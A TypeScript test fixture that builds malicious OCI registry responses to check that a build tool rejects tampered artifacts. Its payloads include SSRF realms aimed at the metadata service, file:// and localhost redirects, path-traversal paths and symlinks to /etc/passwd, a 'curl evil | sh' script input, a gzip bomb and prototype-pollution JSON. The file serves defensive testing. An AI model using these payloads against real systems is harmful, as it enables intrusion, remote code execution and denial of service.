/**
 * What a registry may be up to: each attack is a name and how the registry answers. All of them are made from an artifact
 * that is right, so that only what is attacked is wrong.
 *
 * @module
 */
import { gzipSync } from "node:zlib";
import { type Digest, digestOf } from "../../engine/digest.ts";
import { Random } from "./_random.ts";

type Bytes = Uint8Array<ArrayBuffer>;

/** A right artifact, in parts. */
export interface Genuine {
  /** Bytes of the OCI manifest. */
  readonly oci: Bytes;
  /** Text of the step's manifest. */
  readonly config: string;
  readonly blobs: ReadonlyMap<string, Bytes>;
  /** Text of the manifest of another step in the same registry. */
  readonly otherConfig: string;
  /** OCI manifest of the other step. */
  readonly otherOci: Bytes;
  /** The manifest of an earlier version of the step, and what it is made of. */
  readonly oldOci: Bytes;
}

/** How a registry answers. */
export interface Answers {
  readonly oci: Bytes;
  readonly blobs: Map<string, Bytes>;
  /** Answers instead, where it gives something. */
  readonly before?: (path: string) => Response | undefined;
  /** Bytes to send on the bare connection instead of HTTP; then it is closed, or left open. */
  readonly raw?: (path: string) => { readonly bytes: Bytes; readonly stayOpen: boolean } | undefined;
}

/** See the module's text. */
export interface Attack {
  readonly name: string;
  readonly answers: (genuine: Genuine) => Answers;
}

const encoder = new TextEncoder();
const JSON_TYPE = { "content-type": "application/vnd.oci.image.manifest.v1+json" };

/** All attacks; those that depend on chance are as many as asked for, of each kind. */
export function attacks(seed: number, chances: number): Attack[] {
  return [
    ...statuses(),
    ...connections(),
    ...wrongManifests(),
    ...wrongLayers(),
    ...wrongConfigs(),
    ...wrongTrees(),
    ...wrongBlobs(),
    ...byChance(seed, chances),
  ];
}

// --- the protocol ---

function statuses(): Attack[] {
  const codes = [
    201,
    204,
    206,
    301,
    304,
    307,
    400,
    401,
    403,
    404,
    405,
    409,
    410,
    416,
    418,
    429,
    451,
    500,
    502,
    503,
    599,
  ];
  const headers: Record<string, Record<string, string>> = {
    "401 with a realm elsewhere": {
      "www-authenticate": 'Bearer realm="http://169.254.169.254/latest",service="x"',
    },
    "401 with a realm of another scheme": {
      "www-authenticate": 'Bearer realm="file:///etc/passwd",service="x"',
    },
    "401 with a realm that loops": { "www-authenticate": 'Bearer realm="/v2/",service="x"' },
    "401 with half a challenge": { "www-authenticate": 'Bearer realm="' },
    "401 for a password": { "www-authenticate": 'Basic realm="x"' },
    "401 with a long challenge": { "www-authenticate": `Bearer ${'a="b",'.repeat(5000)}` },
  };
  const redirects: Record<string, string> = {
    "a redirect to a file": "file:///etc/passwd",
    "a redirect to another service of this machine": "http://127.0.0.1:1/",
    "a redirect to itself": "",
    "a redirect to data": "data:application/json,{}",
    "a redirect to nonsense": "http://[",
  };
  return [
    ...codes.flatMap((status) =>
      ["manifests", "blobs"].map((part): Attack => ({
        name: `answers ${status} for ${part}`,
        answers: instead(
          part,
          () => new Response(status === 204 || status === 304 ? null : "no", { status }),
        ),
      }))
    ),
    ...Object.entries(headers).map(([name, header]): Attack => ({
      name,
      answers: instead("manifests", () => new Response(null, { status: 401, headers: header })),
    })),
    ...Object.entries(redirects).flatMap(([name, location]) =>
      ["manifests", "blobs"].map((part): Attack => ({
        name: `${name} for ${part}`,
        answers: instead(part, () => new Response(null, { status: 307, headers: { location } })),
      }))
    ),
    {
      name: "busy for an hour",
      answers: instead(
        "manifests",
        () => new Response(null, { status: 429, headers: { "retry-after": "3600" } }),
      ),
    },
    {
      name: "an error without end",
      answers: instead("manifests", () => new Response(endless("{"), { status: 400 })),
    },
    ...["manifests", "blobs"].map((part): Attack => ({
      name: `a wrong digest header for ${part}`,
      answers: (genuine) => {
        const { oci, blobs } = honest(genuine);
        const headers = { ...JSON_TYPE, "docker-content-digest": `sha256:${"0".repeat(64)}` };
        return {
          oci,
          blobs,
          before: (path) =>
            path.includes(`/${part}/`)
              ? new Response(part === "manifests" ? oci : blobs.get(path.slice(-64)) ?? null, { headers })
              : undefined,
        };
      },
    })),
  ];
}

function connections(): Attack[] {
  const head = (length: number | string) => `HTTP/1.1 200 OK\r\nContent-Length: ${length}\r\n\r\n`;
  const chunked = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n";
  const answers: Record<string, (whole: Bytes) => { text: string; body: Bytes; stayOpen: boolean }> = {
    "closes at once": () => ({ text: "", body: new Uint8Array(), stayOpen: false }),
    "never answers": () => ({ text: "", body: new Uint8Array(), stayOpen: true }),
    "speaks something else": () => ({
      text: "220 mail.example ESMTP\r\n",
      body: new Uint8Array(),
      stayOpen: false,
    }),
    "closes in the middle": (whole) => ({ text: head(whole.length), body: half(whole), stayOpen: false }),
    "stops in the middle": (whole) => ({ text: head(whole.length), body: half(whole), stayOpen: true }),
    "claims to have less": (whole) => ({ text: head(half(whole).length), body: whole, stayOpen: false }),
    "claims to have one byte more": (whole) => ({
      text: head(whole.length + 1),
      body: whole,
      stayOpen: false,
    }),
    "claims a negative length": (whole) => ({ text: head(-1), body: whole, stayOpen: false }),
    "claims two lengths": (whole) => ({
      text: `HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: ${whole.length}\r\n\r\n`,
      body: whole,
      stayOpen: false,
    }),
    "claims a petabyte": (whole) => ({ text: head(1e15), body: whole, stayOpen: true }),
    "breaks a chunk off": (whole) => ({
      text: `${chunked}${whole.length.toString(16)}\r\n`,
      body: half(whole),
      stayOpen: false,
    }),
    "has no length of a chunk": (whole) => ({ text: `${chunked}zz\r\n`, body: whole, stayOpen: false }),
    "ends without the last chunk": (whole) => ({
      text: `${chunked}${half(whole).length.toString(16)}\r\n`,
      body: concat(half(whole), encoder.encode("\r\n")),
      stayOpen: false,
    }),
    "sends headers without end": () => ({
      text: `HTTP/1.1 200 OK\r\n${"x-filler: 0123456789abcdef\r\n".repeat(60_000)}`,
      body: new Uint8Array(),
      stayOpen: true,
    }),
  };
  return Object.entries(answers).flatMap(([name, make]) =>
    ["manifests", "blobs"].map((part): Attack => ({
      name: `${name}, for ${part}`,
      answers: (genuine) => {
        const { oci, blobs } = honest(genuine);
        return {
          oci,
          blobs,
          raw: (path) => {
            if (!path.includes(`/${part}/`)) return undefined;
            const { text, body, stayOpen } = make(
              part === "manifests" ? oci : blobs.get(path.slice(-64)) ?? oci,
            );
            return { bytes: concat(encoder.encode(text), body), stayOpen };
          },
        };
      },
    }))
  );
}

// --- the OCI manifest ---

function wrongManifests(): Attack[] {
  const texts: Record<string, string> = {
    "nothing": "",
    "a page": "<!doctype html><title>Log in</title>",
    "null": "null",
    "a list": "[]",
    "a number": "1e999",
    "a text": '"manifest"',
    "an empty object": "{}",
    "a thousand brackets": "[".repeat(1000),
    "a million brackets": "[".repeat(1_000_000),
    "prototypes": '{"__proto__":{"schemaVersion":2},"constructor":1}',
    "an index": '{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[]}',
    "a manifest of old": '{"schemaVersion":1,"name":"acme/cache","fsLayers":[]}',
    "an image of Docker's":
      '{"schemaVersion":2,"mediaType":"application/vnd.docker.distribution.manifest.v2+json","config":{},"layers":[]}',
    "five mebibytes of space": " ".repeat(5 * 2 ** 20),
  };
  return [
    ...Object.entries(texts).map(([name, text]): Attack => ({
      name: `a manifest that is ${name}`,
      answers: (genuine) => ({ ...honest(genuine), oci: encoder.encode(text) }),
    })),
    { name: "a manifest in UTF-16", answers: (genuine) => ({ ...honest(genuine), oci: utf16(genuine.oci) }) },
    {
      name: "the manifest of another step",
      answers: (genuine) => ({ ...honest(genuine), oci: genuine.otherOci }),
    },
    {
      name: "the manifest of an old version",
      answers: (genuine) => ({ ...honest(genuine), oci: genuine.oldOci }),
    },
    { name: "half a manifest", answers: (genuine) => ({ ...honest(genuine), oci: half(genuine.oci) }) },
    {
      name: "a manifest without end",
      answers: instead("manifests", () => new Response(endless(" "), { headers: JSON_TYPE })),
    },
    {
      name: "a manifest that grows by gzip",
      answers: instead(
        "manifests",
        () => new Response(bomb(), { headers: { ...JSON_TYPE, "content-encoding": "gzip" } }),
      ),
    },
    {
      name: "a manifest byte by byte",
      answers: (genuine) => {
        const whole = honest(genuine);
        return {
          ...whole,
          before: (path) => path.includes("/manifests/") ? new Response(slowly(whole.oci)) : undefined,
        };
      },
    },
    ...editedOci({
      "schemaVersion 3": (oci) => ({ ...oci, schemaVersion: 3 }),
      "another media type": (oci) => ({ ...oci, mediaType: "application/json" }),
      "another artifact type": (oci) => ({ ...oci, artifactType: "application/vnd.vkforge.step.v2" }),
      "no artifact type": ({ artifactType: _, ...oci }) => oci,
      "no config": ({ config: _, ...oci }) => oci,
      "a config of another type": (oci) => ({ ...oci, config: { ...oci.config, mediaType: "text/plain" } }),
      "a config with SHA-512": (oci) => ({
        ...oci,
        config: { ...oci.config, digest: `sha512:${"0".repeat(128)}` },
      }),
      "a config whose digest leaves the address": (oci) => ({
        ...oci,
        config: { ...oci.config, digest: "sha256:../../../etc/passwd" },
      }),
      "a config one byte longer": (oci) => ({ ...oci, config: { ...oci.config, size: oci.config.size + 1 } }),
      "a config one byte shorter": (oci) => ({
        ...oci,
        config: { ...oci.config, size: oci.config.size - 1 },
      }),
      "a config of a petabyte": (oci) => ({ ...oci, config: { ...oci.config, size: 1e15 } }),
      "a config of negative size": (oci) => ({ ...oci, config: { ...oci.config, size: -1 } }),
      "a config of half a byte": (oci) => ({ ...oci, config: { ...oci.config, size: 0.5 } }),
      "a config that is a layer": (oci) => ({
        ...oci,
        config: { ...oci.layers[0], mediaType: oci.config.mediaType },
      }),
      "a config that is not there": (oci) => ({
        ...oci,
        config: { ...oci.config, digest: `sha256:${"1".repeat(64)}` },
      }),
    }),
  ];
}

function wrongLayers(): Attack[] {
  return editedOci({
    "no layers": (oci) => ({ ...oci, layers: [] }),
    "layers that are no list": (oci) => ({ ...oci, layers: { 0: oci.layers[0], length: 1 } }),
    "a layer less": (oci) => ({ ...oci, layers: oci.layers.slice(1) }),
    "a layer more": (oci) => ({ ...oci, layers: [...oci.layers, oci.config] }),
    "a layer twice": (oci) => ({ ...oci, layers: [...oci.layers, oci.layers[0]] }),
    "one layer in place of all": (oci) => ({ ...oci, layers: oci.layers.map(() => oci.layers[0]) }),
    "layers in another order": (oci) => ({ ...oci, layers: oci.layers.toReversed() }),
    "layers with swapped digests": (oci) => ({
      ...oci,
      layers: oci.layers.map((layer: OciLayer, index: number) => ({
        ...layer,
        digest: oci.layers.at(-1 - index)?.digest,
      })),
    }),
    "layers of another type": (oci) => ({
      ...oci,
      layers: oci.layers.map((layer: OciLayer) => ({
        ...layer,
        mediaType: "application/vnd.oci.image.layer.v1.tar+gzip",
      })),
    }),
    "layers one byte longer": (oci) => ({
      ...oci,
      layers: oci.layers.map((layer: OciLayer) => ({ ...layer, size: layer.size + 1 })),
    }),
    "layers of a petabyte": (oci) => ({
      ...oci,
      layers: oci.layers.map((layer: OciLayer) => ({ ...layer, size: 1e15 })),
    }),
    "layers that are not there": (oci) => ({
      ...oci,
      layers: oci.layers.map((layer: OciLayer) => ({ ...layer, digest: `sha256:${"2".repeat(64)}` })),
    }),
    "twenty thousand layers": (oci) => ({
      ...oci,
      layers: Array.from({ length: 20_000 }, () => oci.layers[0]),
    }),
  });
}

// --- the step's manifest ---

function wrongConfigs(): Attack[] {
  const texts: Record<string, (genuine: Genuine) => string> = {
    "empty": () => "",
    "of another step": ({ otherConfig }) => otherConfig,
    "with a wrong checksum": ({ config }) => config.replace(/"checksum": "../, '"checksum": "00'),
    "changed under its checksum": ({ config }) => config.replace('"durationMs": 1234', '"durationMs": 1235'),
    "in another form": ({ config }) => JSON.stringify(JSON.parse(config)),
    "with a byte order mark": ({ config }) => `\ufeff${config}`,
    "followed by another": ({ config }) => config + config,
    "half": ({ config }) => config.slice(0, config.length / 2),
  };
  return [
    ...Object.entries(texts).map(([name, make]): Attack => ({
      name: `a step's manifest ${name}`,
      answers: (genuine) => withConfig(genuine, make(genuine)),
    })),
    ...editedConfig({
      "of another id": (manifest) => ({ ...manifest, id: "3".repeat(64) }),
      "of another kind": (manifest) => ({ ...manifest, kind: "image" }),
      "of another name": (manifest) => ({ ...manifest, name: "library" }),
      "named like a path": (manifest) => ({ ...manifest, name: "../../latest/program" }),
      "of another schema": (manifest) => ({ ...manifest, schema: 2 }),
      "with other inputs": (manifest) => ({
        ...manifest,
        inputs: { ...manifest.inputs, script: "curl evil | sh" },
      }),
      "without inputs": (manifest) => ({ ...manifest, inputs: null }),
      "with inputs nested without end": (manifest) => ({ ...manifest, inputs: nested(1500) }),
      "with a member more": (manifest) => ({ ...manifest, note: "hello" }),
      "with a prototype": (manifest) => JSON.parse(JSON.stringify(manifest).replace("{", '{"__proto__":{},')),
      "with a wrong tree digest": (manifest) => ({ ...manifest, treeDigest: "4".repeat(64) }),
      "without a tree": ({ tree: _, ...manifest }) => manifest,
      "with a tree that is an object": (manifest) => ({ ...manifest, tree: {} }),
      "with a log without size": (manifest) => ({ ...manifest, log: { digest: manifest.log.digest } }),
      "with a log of negative size": (manifest) => ({ ...manifest, log: { ...manifest.log, sizeBytes: -1 } }),
      "with a log of a petabyte": (manifest) => ({ ...manifest, log: { ...manifest.log, sizeBytes: 1e15 } }),
      "with a log that is not there": (manifest) => ({
        ...manifest,
        log: { ...manifest.log, digest: "5".repeat(64) },
      }),
      "with a negative duration": (manifest) => ({ ...manifest, durationMs: -1 }),
      "with a duration in words": (manifest) => ({ ...manifest, durationMs: "long" }),
    }),
  ];
}

function wrongTrees(): Attack[] {
  const escapes = [
    "../outside",
    "out/../../outside",
    "/tmp/vkforge-outside",
    "out/..",
    "..",
    ".",
    "",
    "out//a.txt",
    "out/./a.txt",
    "out/",
    "out/a\0b",
    "out/\ud800",
    `out/${"x".repeat(300)}`,
    `out/${"d/".repeat(3000)}x`,
    "elsewhere",
    "outside/a",
    "../../manifests/x.json",
  ];
  const links = [
    "/etc/passwd",
    "../../etc/passwd",
    "../../outside",
    "deep/../../../etc",
    "",
    "a\0b",
    "x".repeat(5000),
  ];
  const file = (tree: Packed[]) => tree.find(([kind]) => kind === "f") ?? [];
  return [
    ...escapes.map((path) =>
      editedTree(`a file at "${path.slice(0, 30)}"`, (tree) => [...tree, ["f", path, ...file(tree).slice(2)]])
    ),
    ...escapes.slice(0, 8).map((path) =>
      editedTree(`a link at "${path}"`, (tree) => [...tree, ["l", path, "a.txt"]])
    ),
    ...escapes.slice(0, 8).map((path) =>
      editedTree(`a folder at "${path}"`, (tree) => [...tree, ["d", path]])
    ),
    ...links.map((target) =>
      editedTree(`a link to "${target.slice(0, 30)}"`, (tree) => [...tree, ["l", "out/zz", target]])
    ),
    editedTree("a file below a link", (tree) => [...tree, ["f", "out/link/x", ...file(tree).slice(2)]]),
    editedTree("a file below a file", (tree) => [...tree, ["f", "out/a.txt/x", ...file(tree).slice(2)]]),
    editedTree("a link in place of the output", () => [["l", "out", "/"]]),
    editedTree("an entry twice", (tree) => [...tree, tree[0] ?? []], "unsorted"),
    editedTree(
      "an entry twice, with other bytes",
      (tree) => [...tree, ["f", "out/a.txt", ...(tree.at(-1) ?? []).slice(2)]],
    ),
    editedTree("entries in another order", (tree) => tree.toReversed(), "unsorted"),
    editedTree("a folder that is not empty", (tree) => [...tree, ["d", "out/deep"]]),
    editedTree("nothing", () => []),
    editedTree("nothing but the log", () => [["d", "other"]]),
    editedTree("an entry of an unknown kind", (tree) => [...tree, ["b", "out/zz", 8, 1]]),
    editedTree("an entry that is null", (tree) => [...tree, null as unknown as Packed], "unsorted"),
    editedTree("an entry that is a text", (tree) => [...tree, "out/zz" as unknown as Packed], "unsorted"),
    editedTree("a path that is a number", (tree) => [...tree, ["f", 7, ...file(tree).slice(2)]], "unsorted"),
    editedTree("a file of negative size", (tree) => tree.map((entry) => sized(entry, () => -5))),
    editedTree("a file of half a byte", (tree) => tree.map((entry) => sized(entry, () => 0.5))),
    editedTree(
      "a file whose size is a text",
      (tree) => tree.map((entry) => sized(entry, (size) => `${size}`)),
    ),
    editedTree(
      "files one byte shorter",
      (tree) => tree.map((entry) => sized(entry, (size) => Math.max(0, size - 1))),
    ),
    editedTree("files of a petabyte", (tree) => tree.map((entry) => sized(entry, () => 1e15))),
    editedTree("files beyond numbers", (tree) => tree.map((entry) => sized(entry, () => 2 ** 53))),
    editedTree("a file of two sizes", (tree) => [...tree, ["f", "out/zz", file(tree)[2], 7]]),
    editedTree(
      "a digest in capitals",
      (tree) => tree.map((entry) => hashed(entry, (digest) => digest.toUpperCase())),
    ),
    editedTree(
      "a digest that is a path",
      (tree) => tree.map((entry) => hashed(entry, () => "../../../../../etc/passwd")),
    ),
    editedTree(
      "a digest that is not there",
      (tree) => tree.map((entry) => hashed(entry, () => "6".repeat(64))),
    ),
    editedTree(
      "a hundred thousand entries",
      (
        tree,
      ) => [...tree, ...Array.from({ length: 100_000 }, (_, index): Packed => ["d", `outside/${index}`])],
    ),
  ];
}

// --- blobs ---

function wrongBlobs(): Attack[] {
  const bodies: Record<string, (bytes: Bytes) => BodyInit> = {
    "nothing": () => "",
    "half": half,
    "all but a byte": (bytes) => bytes.slice(0, -1),
    "a byte more": (bytes) => concat(bytes, new Uint8Array(1)),
    "all twice": (bytes) => concat(bytes, bytes),
    "zeros": (bytes) => new Uint8Array(bytes.length),
    "a page": () => "<!doctype html><title>Log in</title>",
    "bytes without end": () => endless("x"),
    "byte by byte": (bytes) => slowly(bytes),
    "then nothing for long": (bytes) => stalls(half(bytes)),
    "then an error": (bytes) => breaks(half(bytes)),
  };
  return [
    ...Object.entries(bodies).flatMap(([name, make]) =>
      ["layers", "the step's manifest"].map((part): Attack => ({
        name: `${name}, for ${part}`,
        answers: (genuine) => {
          const { oci, blobs } = honest(genuine);
          const config = digestOf(genuine.config);
          return {
            oci,
            blobs,
            before: (path) => {
              const digest = path.slice(-64);
              const isWanted = path.includes("/blobs/") && (digest === config) === (part !== "layers");
              const bytes = blobs.get(digest);
              return isWanted && bytes !== undefined ? new Response(make(bytes)) : undefined;
            },
          };
        },
      }))
    ),
    {
      name: "layers that grow by gzip",
      answers: instead("blobs", () => new Response(bomb(), { headers: { "content-encoding": "gzip" } })),
    },
    {
      name: "layers in an encoding that is not one",
      answers: instead("blobs", () => new Response("xxxx", { headers: { "content-encoding": "gzip" } })),
    },
    {
      name: "blobs of other names",
      answers: (genuine) => {
        const { oci, blobs } = honest(genuine);
        const names = [...blobs.keys()];
        const moved = new Map(
          names.map((name, index) => [name, blobs.get(names[(index + 1) % names.length] ?? "") ?? oci]),
        );
        return { oci, blobs: moved };
      },
    },
  ];
}

function byChance(seed: number, count: number): Attack[] {
  const random = new Random(seed);
  const layersOf = ({ oci }: Genuine): string[] =>
    JSON.parse(textOf(oci)).layers.map(({ digest }: OciLayer) => digest.slice("sha256:".length));
  const numbers = Array.from({ length: count }, () => random.below(2 ** 30));
  return [
    ...numbers.map((number): Attack => ({
      name: `a flipped bit of a layer (${number})`,
      answers: (genuine) => {
        const whole = honest(genuine);
        const chance = new Random(number);
        const name = chance.pick(layersOf(genuine));
        whole.blobs.set(name, flipped(whole.blobs.get(name) ?? new Uint8Array(1), chance));
        return whole;
      },
    })),
    ...numbers.map((number): Attack => ({
      name: `a layer cut anywhere (${number})`,
      answers: (genuine) => {
        const whole = honest(genuine);
        const chance = new Random(number);
        const name = chance.pick(layersOf(genuine));
        const bytes = whole.blobs.get(name) ?? new Uint8Array(1);
        whole.blobs.set(name, bytes.slice(0, chance.below(bytes.length)));
        return whole;
      },
    })),
    ...numbers.map((number): Attack => ({
      name: `a flipped bit of the step's manifest (${number})`,
      answers: (genuine) => {
        const whole = honest(genuine);
        whole.blobs.set(
          digestOf(genuine.config),
          flipped(encoder.encode(genuine.config), new Random(number)),
        );
        return whole;
      },
    })),
    ...numbers.map((number): Attack => ({
      name: `a step's manifest with a flipped bit and a digest to match (${number})`,
      answers: (genuine) => withConfig(genuine, flipped(encoder.encode(genuine.config), new Random(number))),
    })),
    ...numbers.map((number): Attack => ({
      name: `a manifest cut anywhere (${number})`,
      answers: (genuine) => ({
        ...honest(genuine),
        oci: genuine.oci.slice(0, new Random(number).below(genuine.oci.length)),
      }),
    })),
  ];
}

// --- how answers are made ---

function honest({ oci, blobs }: Genuine): Answers {
  return { oci, blobs: new Map(blobs) };
}

/** Right but for one part. */
function instead(part: string, make: () => Response): Attack["answers"] {
  return (genuine) => ({
    ...honest(genuine),
    before: (path) => path.includes(`/${part}/`) ? make() : undefined,
  });
}

// deno-lint-ignore no-explicit-any -- what is edited has no type any more
type Edit = (value: any) => unknown;

function editedOci(edits: Readonly<Record<string, Edit>>): Attack[] {
  return Object.entries(edits).map(([name, edit]) => ({
    name: `a manifest with ${name}`,
    answers: (genuine) => ({
      ...honest(genuine),
      oci: encoder.encode(JSON.stringify(edit(JSON.parse(textOf(genuine.oci))))),
    }),
  }));
}

function editedConfig(edits: Readonly<Record<string, Edit>>): Attack[] {
  return Object.entries(edits).map(([name, edit]) => ({
    name: `a step's manifest ${name}`,
    answers: (genuine) => {
      const { checksum: _, ...manifest } = JSON.parse(genuine.config);
      return withConfig(genuine, signed(edit(manifest)));
    },
  }));
}

type Packed = unknown[];

/** An attack on the tree, with its digest, the checksum, the sizes of layers and all digests to match. */
function editedTree(
  name: string,
  edit: (tree: Packed[]) => Packed[],
  order: "sorted" | "unsorted" = "sorted",
): Attack {
  return {
    name: `a tree with ${name}`,
    answers: (genuine) => {
      const { checksum: _, ...manifest } = JSON.parse(genuine.config);
      let tree = edit(manifest.tree);
      if (order === "sorted") tree = tree.toSorted((a, b) => String(a[1]) < String(b[1]) ? -1 : 1);
      const described = tree.map((entry) => {
        if (!Array.isArray(entry)) return [entry];
        const [kind, path, value] = entry;
        return kind === "d" ? [path, "d"] : [path, kind, value];
      });
      const text = signed({ ...manifest, tree, treeDigest: digestOf(JSON.stringify(described)) });
      return withConfig(genuine, text, tree);
    },
  };
}

/** A manifest's text with the checksum that belongs to it, in the store's own form. */
function signed(manifest: unknown): string {
  const { tree, ...head } = manifest as { tree?: unknown };
  const open = JSON.stringify(head, null, 2).slice("{\n".length, -"\n}".length);
  const lines = Array.isArray(tree)
    ? `[\n${tree.map((entry) => `    ${JSON.stringify(entry)}`).join(",\n")}\n  ]`
    : JSON.stringify(tree);
  const body = `${open}${lines === undefined ? "" : `,\n  "tree": ${lines}`}\n}\n`;
  return `{\n  "checksum": "${digestOf(body)}",\n${body}`;
}

/** The artifact with another config; layers for the files of a tree, where one is given. */
function withConfig(genuine: Genuine, config: string | Bytes, tree?: readonly Packed[]): Answers {
  const whole = honest(genuine);
  const bytes = typeof config === "string" ? encoder.encode(config) : config;
  const oci = JSON.parse(textOf(genuine.oci));
  oci.config = { ...oci.config, digest: `sha256:${digestOf(bytes)}`, size: bytes.length };
  whole.blobs.set(digestOf(bytes), bytes);
  if (tree !== undefined) oci.layers = layersFor(genuine, tree, oci.layers);
  return { ...whole, oci: encoder.encode(JSON.stringify(oci)) };
}

interface OciLayer {
  readonly mediaType: string;
  readonly digest: string;
  readonly size: number;
}

/** Sizes as the tree has them, so that nothing but the tree stands in the way. */
function layersFor(genuine: Genuine, tree: readonly Packed[], layers: readonly OciLayer[]): OciLayer[] {
  const sizes = new Map<unknown, number>();
  for (const entry of tree) {
    if (Array.isArray(entry) && (entry[0] === "f" || entry[0] === "x")) sizes.set(entry[2], Number(entry[3]));
  }
  const { log } = JSON.parse(genuine.config);
  sizes.set(log.digest, log.sizeBytes);
  const small = [...sizes.values()].filter((size) => size < 2 ** 20).reduce((sum, size) => sum + size, 0);
  return layers.map((layer) => layer.mediaType.includes("pack") ? { ...layer, size: small } : layer);
}

function sized(entry: Packed, change: (size: number) => unknown): Packed {
  return entry[0] === "f" || entry[0] === "x"
    ? [entry[0], entry[1], entry[2], change(Number(entry[3]))]
    : entry;
}

function hashed(entry: Packed, change: (digest: Digest) => unknown): Packed {
  return entry[0] === "f" || entry[0] === "x"
    ? [entry[0], entry[1], change(entry[2] as Digest), entry[3]]
    : entry;
}

function nested(depth: number): unknown {
  return JSON.parse("[".repeat(depth) + "]".repeat(depth));
}

function half(bytes: Bytes): Bytes {
  return bytes.slice(0, Math.floor(bytes.length / 2));
}

function flipped(bytes: Bytes, random: Random): Bytes {
  const changed = bytes.slice();
  const index = random.below(changed.length);
  changed[index] = (changed[index] ?? 0) ^ (1 << random.below(8));
  return changed;
}

function concat(a: Bytes, b: Bytes): Bytes {
  const whole = new Uint8Array(a.length + b.length);
  whole.set(a);
  whole.set(b, a.length);
  return whole;
}

function textOf(bytes: Bytes): string {
  return new TextDecoder().decode(bytes);
}

function utf16(bytes: Bytes): Bytes {
  const text = textOf(bytes);
  return new Uint8Array(Uint16Array.from(text, (character) => character.charCodeAt(0)).buffer);
}

let bombBytes: Bytes | undefined;

/** A gigabyte of zeros in a megabyte: gzip allows to put one file behind the other. */
function bomb(): Bytes {
  if (bombBytes === undefined) {
    const part = gzipSync(new Uint8Array(2 ** 24));
    bombBytes = new Uint8Array(64 * part.length);
    for (let count = 0; count < 64; count++) bombBytes.set(part, count * part.length);
  }
  return bombBytes;
}

function endless(letter: string): ReadableStream<Uint8Array> {
  const block = encoder.encode(letter.repeat(1 << 16));
  return new ReadableStream({ pull: (controller) => controller.enqueue(block.slice()) });
}

function slowly(bytes: Bytes): ReadableStream<Uint8Array> {
  let offset = 0;
  return new ReadableStream({
    async pull(controller) {
      await new Promise((resolve) => setTimeout(resolve, 20));
      if (offset >= bytes.length) return controller.close();
      controller.enqueue(bytes.slice(offset, ++offset));
    },
  });
}

function stalls(bytes: Bytes): ReadableStream<Uint8Array> {
  let isOver = false;
  return new ReadableStream({
    start: (controller) => controller.enqueue(bytes),
    async pull(controller) {
      // Longer than anybody waits, but the test's server has to come to its end.
      for (let count = 0; count < 100 && !isOver; count++) {
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
      if (!isOver) controller.close();
    },
    cancel: () => void (isOver = true),
  });
}

function breaks(bytes: Bytes): ReadableStream<Uint8Array> {
  return new ReadableStream({
    start(controller) {
      controller.enqueue(bytes);
    },
    pull: (controller) => controller.error(new Error("broken off")),
  });
}
